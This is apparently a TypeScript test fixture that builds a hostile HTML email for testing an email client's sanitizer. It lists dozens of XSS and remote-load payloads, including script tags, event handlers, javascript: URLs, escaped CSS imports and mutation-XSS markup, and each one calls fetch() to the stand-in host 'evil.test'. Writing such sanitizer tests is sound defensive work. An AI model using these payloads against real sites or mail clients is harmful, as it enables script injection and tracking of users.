/** The target of all requests of a hostile email, and the payload of its scripts. */
export const elsewhere = 'evil.test'
const from = (name: string): string => `https://${elsewhere}/${name}`
const run = (name: string): string => `fetch('${from(name)}');top.document.title='taken'`

/** Ways for a page to run code or make requests on its own. */
const vectors: readonly string[] = [
  `<script>${run('script')}</script>`,
  `<script src="${from('script-src')}"></script>`,
  `<img src=x onerror="${run('onerror')}">`,
  `<img src="${from('img')}">`,
  `<img srcset="${from('srcset')} 2x">`,
  `<picture><source srcset="${from('source')}"><img src="${from('picture')}"></picture>`,
  `<body onload="${run('onload')}" background="${from('body-background')}">`,
  `<table background="${from('table-background')}"><tr><td background="${from('cell-background')}">cell</td></tr></table>`,
  `<div style="background:url(${from('style-url')})">a</div>`,
  `<div style="background-image:u\\72l('${from('style-escape')}')">b</div>`,
  `<div style="background:image-set('${from('image-set')}' 1x)">c</div>`,
  `<div style="list-style:url(${from('list-style')});cursor:url(${from('cursor')}),auto">d</div>`,
  `<style>@import url(${from('import')});</style>`,
  `<style>@import "${from('import-text')}";body{background:url(${from('sheet')})}</style>`,
  `<style>@font-face{font-family:x;src:url(${from('font')})}p{font-family:x}</style>`,
  `<style>p::before{content:url(${from('content')})}</style>`,
  `<style>@\\69mport url(${from('import-escape')});</style>`,
  `<link rel="stylesheet" href="${from('stylesheet')}">`,
  `<link rel="prefetch" href="${from('prefetch')}">`,
  `<link rel="dns-prefetch" href="//${elsewhere}">`,
  `<link rel="preconnect" href="${from('preconnect')}">`,
  `<link rel="icon" href="${from('icon')}">`,
  `<meta http-equiv="refresh" content="0;url=${from('refresh')}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">`,
  `<base href="${from('base')}/"><img src="relative.png">`,
  `<iframe src="${from('iframe')}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${run('srcdoc')}&lt;/script&gt;"></iframe>`,
  `<object data="${from('object')}"></object><embed src="${from('embed')}">`,
  `<form id="f" action="${from('form')}"><input name="secret" autofocus onfocus="${run('onfocus')}"><button>Go</button></form>`,
  `<input type="image" src="${from('input-image')}">`,
  `<svg onload="${run('svg-onload')}"><script>${run('svg-script')}</script><image href="${from('svg-image')}"/></svg>`,
  `<svg><use href="${from('use')}#x"/><animate onbegin="${run('onbegin')}" attributeName="x"/></svg>`,
  `<video src="${from('video')}" poster="${from('poster')}" autoplay></video><audio src="${from('audio')}" autoplay></audio>`,
  `<video><track src="${from('track')}" default></video>`,
  `<details open ontoggle="${run('ontoggle')}">e</details>`,
  `<marquee onstart="${run('onstart')}">f</marquee>`,
  `<a id="link" href="${from('link')}" ping="${from('ping')}">An honest link</a>`,
  `<a href="javascript:${run('javascript')}">g</a>`,
  `<a href="java&#10;script:${run('javascript-break')}">h</a>`,
  `<a href="data:text/html,<script>${run('data')}</script>">i</a>`,
  `<area href="javascript:${run('area')}">`,
  `<div style="width:expression(${run('expression')});behavior:url(${from('behavior')})">j</div>`,
  `<template><img src="${from('template')}"></template>`,
  `<portal src="${from('portal')}"></portal><frameset><frame src="${from('frame')}"></frameset>`,
  `<img src="cid:elsewhere" longdesc="${from('longdesc')}"><img lowsrc="${from('lowsrc')}" dynsrc="${from('dynsrc')}">`,
  `<img src="data:image/svg+xml,<svg onload='${run('data-svg')}' xmlns='http://www.w3.org/2000/svg'><image href='${from('data-svg-image')}'/></svg>">`,
  `<div popover id="p" onbeforetoggle="${run('popover')}">k</div><q cite="${from('cite')}">l</q>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run('mxss')}"></style></mglyph></table></mtext></math>`,
  // Malformed markup: a naive sanitizer would misparse what follows.
  `<noscript><p title="</noscript><img src=x onerror=${run('noscript')}>"></noscript>`,
]

/** A page that tries all of them, with a few legitimate words. */
export const hostilePage = `<!doctype html><html><head><title>Hostile</title></head><body>
<p style="color:#0a6b2e;font-weight:700" id="words">Your fare is still honest.</p>
<img alt="Our logo" src="cid:logo@desk.test">
${vectors.join('\n')}
</body></html>`

const logo =
  'iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAAFklEQVR42mNkYPhfz0ABYBw1YDAYAACjnQIPfrGN9AAAAABJRU5ErkJggg=='

/** An email with an HTML page, one embedded image and one attachment. */
export const pageMail = (subject: string, html: string): Buffer =>
  Buffer.from(
    [
      'From: Desk <desk@fares.test>',
      'To: Bookings <bookings@sextant.localhost>',
      `Subject: ${subject}`,
      `Message-ID: <${subject.replaceAll(/\W/g, '')}.${Date.now()}@fares.test>`,
      `Date: ${new Date().toUTCString()}`,
      'MIME-Version: 1.0',
      'Content-Type: multipart/related; boundary="edge"',
      '',
      '--edge',
      'Content-Type: text/html; charset=utf-8',
      'Content-Transfer-Encoding: base64',
      '',
      Buffer.from(html).toString('base64').replaceAll(/.{76}/g, '$&\r\n'),
      '--edge',
      'Content-Type: image/png',
      'Content-Transfer-Encoding: base64',
      'Content-ID: <logo@desk.test>',
      'Content-Disposition: inline',
      '',
      logo,
      '--edge',
      'Content-Type: application/pdf; name="voucher.pdf"',
      'Content-Transfer-Encoding: base64',
      'Content-Disposition: attachment; filename="voucher.pdf"',
      '',
      Buffer.from('%PDF-1.4 nothing in it').toString('base64'),
      '--edge--',
      '',
    ].join('\r\n'),
  )
